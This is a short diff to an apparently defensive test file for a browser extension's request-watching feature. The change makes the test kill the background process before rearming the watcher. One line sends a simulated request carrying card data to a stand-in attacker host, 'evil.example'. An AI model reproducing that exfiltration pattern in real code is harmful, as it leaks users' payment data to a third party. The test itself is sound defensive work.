@@ -8,6 +8,7 @@ import {
   freshBrowser,
   fromContent,
   fromPage,
+  kill,
   settled,
   startBackground,
 } from './world';
@@ -88,7 +89,7 @@ describe('watching', () => {
     await armed();
     mocks.webRequest.onBeforeRequest.registered.length = 0;
     mocks.webRequest.onSendHeaders.registered.length = 0;
-    await startBackground(() => clock);
+    await kill();
     const { rewatch } = await import('@/utils/platform/wire');
     await rewatch();
     await send({ url: `https://evil.example/?c=${CARD}` });
